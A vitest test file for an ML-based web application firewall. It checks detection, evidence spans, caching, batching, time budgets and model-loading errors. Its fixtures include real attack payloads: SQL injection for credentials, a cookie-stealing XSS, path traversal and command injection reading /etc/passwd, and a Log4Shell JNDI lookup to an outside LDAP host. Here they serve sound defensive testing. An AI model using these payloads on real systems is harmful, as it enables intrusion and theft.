// The detection engine end to end with the real shipped model: decisions, classes and evidence,
// fast path and cache, batching, the time budget and failure policies, model loading errors.
import { existsSync, mkdtempSync, readFileSync, writeFileSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createOnnxNodeBackend,
  createWaf,
  createWafEngine,
  fromEvalRecord,
  loadModelDir,
  resolveWafOptions,
  type AttackFinding,
  type InferenceBackend,
  type ModelBundle,
  type Waf,
  type WafRequest,
} from '../src/index.js';

const MODELS = fileURLToPath(new URL('../../../models/', import.meta.url));
const shipped = existsSync(`${MODELS}manifest.json`);
if (!shipped) console.warn(`[waf] skipped: no shipped model at ${MODELS}manifest.json (run \`pnpm train\`)`);

const browser = {
  host: 'shop.example.com',
  'user-agent':
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'accept-language': 'en-GB,en;q=0.9',
};
const get = (url: string, headers: Record<string, string> = {}): WafRequest =>
  fromEvalRecord({ method: 'GET', url, headers: { ...browser, ...headers }, label: 'benign' });
const post = (url: string, contentType: string, body: string): WafRequest =>
  fromEvalRecord({
    method: 'POST',
    url,
    headers: { ...browser, 'content-type': contentType },
    body,
    label: 'benign',
  });

const attacks: Array<[string, WafRequest, string, string]> = [
  // [class, request, attacked field, the payload as normalized (the evidence must lie inside it)]
  [
    'sqli',
    get("/products?id=1'%20union%20select%20username,password%20from%20users--%20-"),
    'query.id',
    "1' union select username,password from users-- -",
  ],
  [
    'xss',
    post(
      '/comments',
      'application/json',
      JSON.stringify({ text: 'hi <script>alert(document.cookie)</script>' }),
    ),
    'body.text',
    '<script>alert(document.cookie)</script>',
  ],
  ['path_traversal', get('/download?file=../../../../etc/passwd'), 'query.file', '../../../../etc/passwd'],
  [
    'log4shell',
    get('/', { 'x-api-version': '${jndi:ldap://198.51.100.23:1389/a}' }),
    'header.x-api-version',
    '${jndi:ldap://198.51.100.23:1389/a}',
  ],
  [
    'cmdi',
    get('/tools/ping?host=127.0.0.1%3B%20cat%20/etc/passwd'),
    'query.host',
    '127.0.0.1; cat /etc/passwd',
  ],
];
const benign = [
  get('/search?q=running+shoes&page=2&sort=-price'),
  get('/api/v2/orders/8412?expand=items'),
  post(
    '/contact',
    'application/x-www-form-urlencoded',
    'name=Ann+Lee&email=ann%40example.com&message=Where+is+my+order%3F',
  ),
  post(
    '/api/cart',
    'application/json',
    JSON.stringify({ sku: 'SHOE-42-BLU', quantity: 2, note: 'gift wrap, please!' }),
  ),
];

describe.skipIf(!shipped)('createWaf with the shipped model', () => {
  let waf: Waf;
  let blocking: Waf;
  beforeAll(async () => {
    waf = await createWaf({ worker: false });
    blocking = await createWaf({ mode: 'block' }); // default: model on a worker thread
  }, 60_000);
  afterAll(async () => {
    await waf?.close();
    await blocking?.close();
  });

  it('loads the shipped model, verified, with its calibrated thresholds', () => {
    const manifest = JSON.parse(readFileSync(`${MODELS}manifest.json`, 'utf8'));
    expect(waf.model.version).toBe(manifest.version);
    expect(waf.model.sha256).toBe(manifest.model.sha256);
    expect(waf.model.thresholds.attack).toBe(manifest.thresholds.attack);
    expect(blocking.backend).toBe('onnxruntime-node (worker)');
  });

  it('allows benign requests', async () => {
    for (const request of benign) {
      const decision = await waf.inspect(request);
      expect(decision, request.target).toMatchObject({
        action: 'allow',
        attack: false,
        budgetExceeded: false,
      });
      expect(decision.attackScore).toBeGreaterThan(20);
      expect(decision.findings.filter((f) => f.kind === 'attack')).toEqual([]);
    }
  });

  it.each(attacks)(
    'flags %s with the field, class and a model-chosen evidence span',
    async (cls, request, path, payload) => {
      for (const engine of [waf, blocking]) {
        const decision = await engine.inspect(request);
        expect(decision.attack).toBe(true);
        expect(decision.action).toBe(engine === blocking ? 'block' : 'monitor');
        expect(decision.attackClass).toBe(cls);
        expect(decision.attackScore).toBeLessThanOrEqual(20);
        const finding = decision.findings[0] as AttackFinding;
        expect(finding).toMatchObject({ kind: 'attack', class: cls, path });
        expect(finding.score).toBeGreaterThanOrEqual(engine.model.thresholds.attack);
        expect(finding.evidence).toBeDefined();
        const { start, end, text } = finding.evidence!;
        expect(end).toBeGreaterThan(start);
        expect(text.length).toBeGreaterThan(1);
        expect(payload).toContain(text);
        expect(decision.classScores[cls]).toBeGreaterThan(0.5);
        expect(decision.model).toBe(`${engine.model.name}@${engine.model.version}`);
      }
    },
  );

  it("with evidence: 'lazy', decides without the search and explains on demand, with the same span", async () => {
    const lazy = await createWaf({ worker: false, evidence: 'lazy' });
    try {
      for (const [, request, path] of attacks) {
        const inline = (await waf.inspect(request)).findings[0] as AttackFinding;
        const decision = await lazy.inspect(request);
        const finding = decision.findings[0] as AttackFinding;
        expect(finding).toMatchObject({ kind: 'attack', path });
        expect(finding.evidence).toBeUndefined();
        const first = lazy.explain(decision);
        expect(lazy.explain(decision)).toBe(first); // one search, however many ask
        const explained = await first;
        expect(explained).not.toBe(decision); // a new value; the decision itself is unchanged
        expect((explained.findings[0] as AttackFinding).evidence).toEqual(inline.evidence);
        expect({ ...explained, findings: [] }).toEqual({ ...decision, findings: [] });
        // The field's score is cached with its evidence: the next decision on it carries it at once.
        const again = await lazy.inspect(request);
        expect((again.findings[0] as AttackFinding).evidence).toEqual(inline.evidence);
        expect(await lazy.explain(again)).toBe(again);
      }
      const benignDecision = await lazy.inspect(benign[0]!);
      expect(await lazy.explain(benignDecision)).toBe(benignDecision);
    } finally {
      await lazy.close();
    }
    const none = await createWaf({ worker: false, evidence: false });
    try {
      const decision = await none.inspect(attacks[0]![1]);
      expect(await none.explain(decision)).toBe(decision);
    } finally {
      await none.close();
    }
    await expect(createWaf({ evidence: 'later' as never })).rejects.toThrow(
      /`evidence` must be true, false or 'lazy'/,
    );
  });

  it('answers repeated fields from the cache with the same scores, and skips inert values', async () => {
    const request = get('/api/v2/products?category=shoes&page=2&id=8412&q=blue+suede');
    const first = await waf.inspect(request);
    const second = await waf.inspect(request);
    expect(second.score).toBe(first.score);
    expect(second.decidedBy).toBe('cache');
    expect(second.counts.model).toBe(0);
    expect(first.counts.fastPath).toBeGreaterThanOrEqual(3); // shoes, 2, 8412 (and the key names)
    const noShortcuts = await createWaf({ worker: false, cache: false, fastPath: false });
    try {
      const plain = await noShortcuts.inspect(request);
      expect(plain.counts.fastPath).toBe(0);
      expect(plain.counts.cached).toBe(0);
      expect(plain.counts.model).toBe(plain.counts.fields);
      // The shortcuts never change a decision.
      expect(plain.action).toBe(first.action);
      for (const [cls, request] of attacks)
        expect((await noShortcuts.inspect(request)).attackClass).toBe(cls);
    } finally {
      await noShortcuts.close();
    }
  });

  it('gives the same scores whether requests run one at a time or concurrently (micro-batched)', async () => {
    const requests = [...benign, ...attacks.map((a) => a[1])].map((r, i) => ({
      ...r,
      target: `${r.target}${r.target.includes('?') ? '&' : '?'}n=${i}x`,
    }));
    const fresh = await createWaf({ cache: false });
    try {
      const one: number[] = [];
      for (const r of requests) one.push((await fresh.inspect(r)).score);
      const runsBefore = fresh.stats().modelRuns;
      const all = await Promise.all(requests.map((r) => fresh.inspect(r)));
      const runs = fresh.stats().modelRuns - runsBefore;
      all.forEach((d, i) => expect(d.score).toBeCloseTo(one[i]!, 4));
      expect(runs).toBeLessThan(all.reduce((n, d) => n + d.counts.windows, 0)); // windows shared runs
    } finally {
      await fresh.close();
    }
  });

  it('keeps the event loop free while the model runs on the worker thread', { timeout: 30_000 }, async () => {
    // 24 long distinct fields: ~20k tokens of model work in one inspect().
    const body = JSON.stringify(
      Object.fromEntries(
        Array.from({ length: 24 }, (_, i) => [
          `note${i}`,
          `order ${i}: ${'please deliver before noon, thanks a lot! '.repeat(20)}`,
        ]),
      ),
    );
    async function maxEventLoopGap(engine: Waf): Promise<number> {
      let last = performance.now();
      let max = 0;
      let running = true;
      const tick = () => {
        const now = performance.now();
        max = Math.max(max, now - last);
        last = now;
        if (running) setImmediate(tick);
      };
      setImmediate(tick);
      await engine.inspect(post(`/api/notes?r=${Math.random()}`, 'application/json', body));
      running = false;
      return max;
    }
    // Runs as large as batching allows, so that an in-process run is one long stall to compare with.
    const options = { timeBudgetMs: 10_000, batching: { maxTokens: 65_536 } };
    const inProcessWaf = await createWaf({ ...options, worker: false });
    const workerWaf = await createWaf(options);
    try {
      const inProcess = await maxEventLoopGap(inProcessWaf);
      const onWorker = await maxEventLoopGap(workerWaf);
      expect(onWorker).toBeLessThan(inProcess / 2);
    } finally {
      await inProcessWaf.close();
      await workerWaf.close();
    }
  });

  it('reports parser findings and never throws on hostile input', async () => {
    const decision = await waf.inspect(post('/api', 'application/json', '{"a": [1, 2, {"b": "%zz'));
    expect(decision.findings.some((f) => f.kind === 'malformed_input')).toBe(true);
    const huge = await waf.inspect(get(`/?q=${'a%20'.repeat(5000)}`));
    expect(huge.findings.some((f) => f.kind === 'limit_exceeded')).toBe(true);
  });

  it('rejects what is not a request, and use after close', async () => {
    await expect(waf.inspect({} as WafRequest)).rejects.toMatchObject({ code: 'WAFER_ERR_INVALID_ARGUMENT' });
    const other = await createWaf({ worker: false });
    await other.close();
    await expect(other.inspect(benign[0]!)).rejects.toMatchObject({ code: 'WAFER_ERR_CLOSED' });
  });

  it('checks class names in thresholds against the model', async () => {
    await expect(
      createWaf({ worker: false, thresholds: { classes: { sqlinjection: 0.5 } } }),
    ).rejects.toThrow(/not a class of this model/);
    await expect(createWaf({ worker: false, thresholds: { classes: { sqll: 0.5 } } })).rejects.toThrow(
      /Did you mean `sqli`/,
    );
  });
});

/** A real backend whose runs take `delayMs` longer: the model answering late under load. */
function slowed(backend: InferenceBackend, delayMs: number): InferenceBackend {
  return {
    name: `${backend.name} (slowed)`,
    run: async (batch) => {
      await new Promise((resolve) => setTimeout(resolve, delayMs));
      return backend.run(batch);
    },
    close: () => backend.close(),
  };
}

describe.skipIf(!shipped)('time budget and failure policies', () => {
  let bundle: ModelBundle;
  beforeAll(async () => {
    bundle = await loadModelDir(MODELS);
  });
  const attack = attacks[0]![1];

  it('fails open by default when the model is too slow, and says so', async () => {
    const backend = slowed(await createOnnxNodeBackend(bundle.modelBytes), 200);
    const waf = createWafEngine(bundle, backend, resolveWafOptions({ timeBudgetMs: 20, mode: 'block' }));
    try {
      const decision = await waf.inspect(attack);
      expect(decision).toMatchObject({
        action: 'allow',
        attack: false,
        budgetExceeded: true,
        decidedBy: 'failure',
      });
      expect(decision.findings).toContainEqual(expect.objectContaining({ kind: 'budget_exceeded' }));
      expect(decision.timings.totalUs).toBeLessThan(150_000);
      // A model run that had started still lands in the cache: the next request is decided properly.
      const lone = fromEvalRecord({
        method: 'GET',
        url: "/p?id=1'%20or%201=1--%20-",
        headers: {},
        label: 'attack',
      });
      await new Promise((resolve) => setTimeout(resolve, 500)); // the first request's runs are over
      expect((await waf.inspect(lone)).budgetExceeded).toBe(true);
      await new Promise((resolve) => setTimeout(resolve, 400));
      const later = await waf.inspect(lone);
      expect(later.action).toBe('block');
      expect(later.counts.cached).toBeGreaterThanOrEqual(1);
      expect(later.counts.model).toBe(0);
    } finally {
      await waf.close();
    }
  });

  it('sheds load under overload: expired work is dropped, so later requests still get decided', async () => {
    const waf = await createWaf({ cache: false, timeBudgetMs: 25 });
    try {
      const flood = Array.from({ length: 120 }, (_, i) =>
        get(
          `/search?q=${encodeURIComponent(`blue running shoes size ${i} with free delivery to berlin`)}&ref=${i}x`,
        ),
      );
      const decisions = await Promise.all(flood.map((r) => waf.inspect(r)));
      await new Promise((resolve) => setTimeout(resolve, 300)); // the queue drains (or expires)
      const stats = waf.stats();
      expect(decisions.some((d) => d.budgetExceeded)).toBe(true); // 2 cores cannot score 120 requests in 25 ms
      expect(stats.expiredWindows).toBeGreaterThan(0); // …and their work was not done for nothing
      // Once the flood is over, requests are decided normally again.
      const after = await waf.inspect(get('/search?q=red+sandals&ref=after1'));
      expect(after.budgetExceeded).toBe(false);
      expect(after.decidedBy).toBe('model');
    } finally {
      await waf.close();
    }
  });

  it('reports a spent budget even when every window expired in the queue before the timer fired', async () => {
    const waf = await createWaf({ timeBudgetMs: 1, cache: false, evidence: false });
    try {
      const body = JSON.stringify(
        Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`f${i}`, `value number ${i} with spaces`])),
      );
      const decision = await waf.inspect(post('/api/many', 'application/json', body));
      expect(decision.counts.model).toBeLessThan(decision.counts.fields - decision.counts.fastPath);
      expect(decision.budgetExceeded).toBe(true);
      expect(decision.decidedBy).toBe('failure');
      expect(decision.findings).toContainEqual(expect.objectContaining({ kind: 'budget_exceeded' }));
    } finally {
      await waf.close();
    }
  });

  it('fails closed with onTimeout: block (in block mode)', async () => {
    const backend = slowed(await createOnnxNodeBackend(bundle.modelBytes), 200);
    const waf = createWafEngine(
      bundle,
      backend,
      resolveWafOptions({ timeBudgetMs: 20, mode: 'block', onTimeout: 'block' }),
    );
    try {
      expect((await waf.inspect(benign[0]!)).action).toBe('block');
    } finally {
      await waf.close();
    }
  });

  it('applies onError when the model fails, never rejecting', async () => {
    const backend = await createOnnxNodeBackend(bundle.modelBytes);
    const waf = createWafEngine(
      bundle,
      backend,
      resolveWafOptions({ mode: 'block', onError: 'block', cache: false }),
    );
    await backend.close(); // the session is gone: every run now fails inside ONNX Runtime
    const decision = await waf.inspect(benign[0]!);
    expect(decision).toMatchObject({ action: 'block', decidedBy: 'failure' });
    expect(decision.findings).toContainEqual(expect.objectContaining({ kind: 'model_error' }));
    const monitor = createWafEngine(bundle, backend, resolveWafOptions({ onError: 'block', cache: false }));
    expect((await monitor.inspect(benign[0]!)).action).toBe('monitor'); // monitor mode never blocks
  });
});

describe.skipIf(!shipped)('loading the model', () => {
  function copyBundle(): string {
    const dir = mkdtempSync(join(tmpdir(), 'wafer-model-'));
    for (const file of ['manifest.json', 'model.onnx', 'tokenizer.json'])
      copyFileSync(`${MODELS}${file}`, join(dir, file));
    return dir;
  }

  it('loads from { path } and from { bytes }', async () => {
    const fromPath = await createWaf({ worker: false, model: { path: copyBundle() } });
    const fromBytes = await createWaf({
      worker: false,
      model: {
        bytes: {
          manifest: readFileSync(`${MODELS}manifest.json`),
          model: readFileSync(`${MODELS}model.onnx`),
          tokenizer: readFileSync(`${MODELS}tokenizer.json`, 'utf8'),
        },
      },
    });
    try {
      const [a, b] = await Promise.all([fromPath.inspect(attacks[1]![1]), fromBytes.inspect(attacks[1]![1])]);
      expect(a.score).toBe(b.score);
    } finally {
      await fromPath.close();
      await fromBytes.close();
    }
  });

  it('has a clear error code for a missing, corrupt or invalid model', async () => {
    await expect(createWaf({ model: { path: join(tmpdir(), 'no-such-model-dir') } })).rejects.toMatchObject({
      code: 'WAFER_ERR_MODEL_NOT_FOUND',
    });
    const corrupt = copyBundle();
    const bytes = readFileSync(join(corrupt, 'model.onnx'));
    bytes[bytes.length >> 1] = bytes[bytes.length >> 1]! ^ 0xff;
    writeFileSync(join(corrupt, 'model.onnx'), bytes);
    await expect(createWaf({ model: { path: corrupt } })).rejects.toMatchObject({
      code: 'WAFER_ERR_MODEL_CORRUPT',
    });
    const invalid = copyBundle();
    writeFileSync(join(invalid, 'manifest.json'), '{"name": "x"');
    await expect(createWaf({ model: { path: invalid } })).rejects.toMatchObject({
      code: 'WAFER_ERR_MODEL_INVALID',
    });
    const missingTokenizer = copyBundle();
    writeFileSync(join(missingTokenizer, 'tokenizer.json'), '{}');
    await expect(createWaf({ model: { path: missingTokenizer } })).rejects.toMatchObject({
      code: 'WAFER_ERR_MODEL_CORRUPT',
    });
  });
});
